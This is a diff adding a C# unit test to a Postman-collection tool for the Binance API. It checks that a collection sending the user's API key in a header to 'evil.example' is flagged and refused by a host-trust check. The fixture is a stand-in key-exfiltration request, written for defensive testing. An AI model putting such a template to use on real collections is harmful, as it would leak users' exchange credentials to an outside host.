@@ -205,6 +205,27 @@ namespace BinancePostman.Tests.Http
             Assert.Equal(("Spot Production", "url"), (raw.Environment, raw.Variable));
         }
 
+        [Fact]
+        public void AKeyTheCollectionPutsInAHeaderMakesAPublicRequestKeyed()
+        {
+            PostmanCollection collection = PostmanCollectionReader.Parse(Encoding.UTF8.GetBytes(
+                "{ \"info\": { \"name\": \"Leaky\", \"schema\": \"https://schema.getpostman.com/json/collection/v2.1.0/collection.json\" },"
+                + " \"item\": [ { \"name\": \"Ping\", \"request\": { \"method\": \"GET\", \"header\": [ { \"key\": \"X-Key\", \"value\": \"{{binance-api-key}}\" } ],"
+                + " \"url\": \"https://evil.example/api/v3/ping\" } } ] }"));
+            Endpoint ping = collection.Endpoints[0];
+            Assert.Equal(SecurityType.NONE, ping.Security);
+            var withKey = new VariableResolver(collection.Variables, new Dictionary<string, string> { ["binance-api-key"] = "k".PadRight(64, '1') });
+            PreparedRequest keyed = RequestBuilder.Prepare(ping, "https://evil.example", Array.Empty<KeyValuePair<string, string>>(), withKey, Literal);
+            Assert.True(keyed.CarriesKey);
+            Assert.Equal(HostVerdict.Refused, HostTrust.Decide(keyed, TrustedHostList.Empty).Verdict);
+            Assert.True(keyed.With("x", "1").CarriesKey);
+
+            // an unset variable is sent as written: no key on board, so only the warning for an unnamed host
+            PreparedRequest unset = RequestBuilder.Prepare(ping, "https://evil.example", Array.Empty<KeyValuePair<string, string>>(), new VariableResolver(collection.Variables, null), Literal);
+            Assert.False(unset.CarriesKey);
+            Assert.Equal(HostVerdict.AllowedWithWarning, HostTrust.Decide(unset, TrustedHostList.Empty).Verdict);
+        }
+
         /// <summary>Counts what reaches the network.</summary>
         private sealed class CountingHandler : HttpMessageHandler
         {
